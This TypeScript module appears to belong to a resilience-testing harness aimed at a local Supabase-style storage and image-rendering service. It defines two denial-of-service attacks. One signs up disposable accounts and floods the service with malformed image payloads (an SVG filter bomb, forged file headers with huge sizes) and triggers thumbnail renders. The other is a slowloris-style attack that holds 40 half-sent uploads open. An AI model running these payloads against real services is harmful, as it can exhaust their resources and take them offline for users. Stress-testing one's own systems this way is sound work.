import { randomBytes } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack } from './attacks.ts';
import { call, type Target, typed } from './http.ts';

const STRANGER = '127.0.0.2';
const PHOTO = '/storage/v1/object/lead-photos/00000000-0000-4000-8000-000000000000/x/0.webp';

/** What some files begin with that say they are pictures, and one that is as long as a picture may be. */
const LIES = [
  '<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feTurbulence numOctaves="999"/></filter><rect width="9999" height="9999" filter="url(#f)"/></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="99999" height="99999"/>',
  'GIF89a',
  '%PDF-1.7',
  'RIFF\xff\xff\xff\x7fWEBPVP8X',
  '\xff\xd8\xff\xe1\xff\xffExif\0\0',
  '\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR',
  '\0\0\0\x1cftypavif\0\0\0\0avifmif1\xff\xff\xff\xffmeta',
].map((text) => Buffer.from(text, 'latin1'));

/** Accounts are cheap: an artist of the attacker's own puts them where thumbnails are made. */
async function accountOf(target: Target): Promise<{ id: string; token: string } | null> {
  const body = JSON.stringify({
    email: `liar-${randomBytes(6).toString('hex')}@load.test`,
    password: 'liar-password',
    data: { name: 'Liar', role: 'artist' },
  });
  const answer = await call(target, {
    path: '/auth/v1/signup',
    method: 'POST',
    body,
    from: STRANGER,
  });
  const { access_token, user } = JSON.parse(answer.body || '{}');
  return access_token ? { id: user.id, token: access_token } : null;
}

const lyingPictures: Attack = {
  name: 'pictures that lie',
  async run(target, signal) {
    const account = await accountOf(target);
    while (!signal.aborted) {
      await Promise.all(LIES.map((lie, i) => sendLie(target, account, lie, i)));
      await pause(100);
    }
  },
};

async function sendLie(
  target: Target,
  account: { id: string; token: string } | null,
  body: Buffer,
  i: number,
) {
  const name = account ? `portfolio-images/${account.id}/lie-${i}.webp` : '';
  const headers = {
    'content-type': 'image/webp',
    'x-upsert': 'true',
    ...(account && { authorization: `Bearer ${account.token}` }),
  };
  const path = account ? `/storage/v1/object/${name}` : PHOTO;
  await call(target, { path, method: 'POST', body, headers, from: STRANGER });
  const small = `/storage/v1/render/image/authenticated/${name}?width=640`;
  if (account) await call(target, { path: small, headers, from: STRANGER });
}

/** Nearly all of a picture, and then nothing, under a name that nobody has signed. */
const halfSentUploads: Attack = {
  name: 'half-sent uploads',
  async run(target, signal) {
    const head = `POST ${PHOTO} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer a.b.c\r\nContent-Length: 5000000\r\n\r\n`;
    const hold = async (i: number) => {
      while (!signal.aborted) {
        const socket = typed(target, head, `127.0.3.${(i % 4) + 1}`);
        socket.write(Buffer.alloc(4_500_000));
        const end = () => socket.destroy();
        signal.addEventListener('abort', end);
        await new Promise<void>((resolve) => {
          socket.once('close', () => resolve());
        });
        signal.removeEventListener('abort', end);
        await pause(100);
      }
    };
    await Promise.all(Array.from({ length: 40 }, (_, i) => hold(i)));
  },
};

export const UPLOAD_ATTACKS = [lyingPictures, halfSentUploads];
